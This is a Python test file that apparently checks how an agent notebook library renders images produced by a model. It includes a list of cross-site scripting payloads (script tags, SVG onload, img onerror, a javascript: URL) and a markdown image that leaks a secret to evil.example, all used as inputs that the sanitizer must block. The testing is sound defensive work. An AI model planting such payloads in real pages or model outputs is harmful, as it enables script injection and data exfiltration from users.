"""A cell shows the images that a model made, after checking their data, and nothing else passes for an image."""

import base64
import re

from support.displays import Displays

from nbagent import Agent, LLMResponse, ScriptedProvider
from nbagent.chat.transcript import Transcript
from nbagent.notebook.display.view import CellView

GIF = base64.b64encode(b"GIF89a\3\0\2\0\0\0\0,\0\0\0\0\3\0\2\0\0\2").decode()
IMAGE = {"type": "image", "media_type": "image/gif", "data": GIF}
TAG = f'<img src="data:image/gif;base64,{GIF}" alt="[image: 3x2 gif]">'
HOSTILE = [
    {**IMAGE, "media_type": '"><script>alert(1)</script>'},
    {**IMAGE, "media_type": "image/svg+xml", "data": base64.b64encode(b"<svg onload=alert(1)>").decode()},
    {**IMAGE, "media_type": '"><script>alert(2)</script>', "data": '"><script>alert(3)</script>'},
    {"type": "image", "url": 'https://evil.example/x.png"><script>alert(4)</script>'},
    {"type": "image", "url": "javascript:alert(5)"},
    {"type": "text", "text": "<img src=x onerror=alert(6)> ![leak](http://evil.example/?secret)"},
]


def words(text):
    return {"type": "text", "text": text}


async def shown(parts):
    """The displays of an answer of these parts."""
    text = "".join(part.get("text", "") for part in parts)
    answer = LLMResponse(text, None, "stop", {"parts": parts, "thinking": "Hm."})
    displays = Displays()
    view = CellView(Transcript(timings=False), displays)
    async for event in Agent(ScriptedProvider([answer])).chat_stream("draw"):
        view.feed(event)
    view.close()
    return displays


async def test_images_stand_where_they_came():
    displays = await shown([words("**one**"), IMAGE, words("two"), IMAGE])
    html = displays.html
    assert html.count(TAG) == 2
    order = [html.index(piece) for piece in ("Thought", "<strong>one</strong>", TAG, "<p>two</p>")]
    assert order == sorted(order)
    plain = displays.text.splitlines()
    assert plain[:4] == ["**one**", "[image: 3x2 gif]", "two", "[image: 3x2 gif]"]
    assert sum(GIF in bundle["text/html"] for _, bundle in displays.sent) == 2, "large data is sent once"


async def test_hostile_parts_do_not_become_images():
    displays = await shown(HOSTILE)
    html = displays.html
    assert re.findall(r"<img[^>]*>", html) == [TAG], "the first is an image, whatever it claims to be"
    assert "<script" not in html
    assert "src=x" not in re.sub(r"&lt;.*?&gt;", "", html)
    assert not re.search(r"(?:src|href)=.?(?:http|javascript)", html)
    assert "[image: javascript:alert(5)]" in displays.text
